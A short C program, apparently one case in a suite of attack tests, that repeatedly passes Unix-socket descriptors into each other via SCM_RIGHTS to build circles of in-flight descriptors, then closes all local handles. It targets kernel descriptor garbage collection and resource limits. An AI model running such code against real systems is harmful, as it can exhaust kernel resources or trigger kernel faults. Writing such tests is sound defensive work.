/* Leaves descriptors in flight inside socket pairs that are themselves in flight, in a circle. */
#include "attack.h"
#include <sys/socket.h>

static int send_fd(int over, int fd)
{
    union {
        char bytes[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control = {{0}};
    char byte = 0;
    struct iovec piece = {&byte, 1};
    struct msghdr message = {.msg_iov = &piece,
                             .msg_iovlen = 1,
                             .msg_control = control.bytes,
                             .msg_controllen = sizeof(control.bytes)};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);

    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &fd, sizeof(fd));
    return (int)sendmsg(over, &message, 0);
}

int main(void)
{
    for (int i = 0; i < 200; i++) {
        int first[2], second[2];

        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, first) < 0 ||
            socketpair(AF_UNIX, SOCK_DGRAM, 0, second) < 0)
            break;
        send_fd(first[0], second[1]);
        send_fd(first[0], first[1]);
        send_fd(second[0], first[1]);
        close(first[0]);
        close(first[1]);
        close(second[0]);
        close(second[1]);
    }
    return done();
}
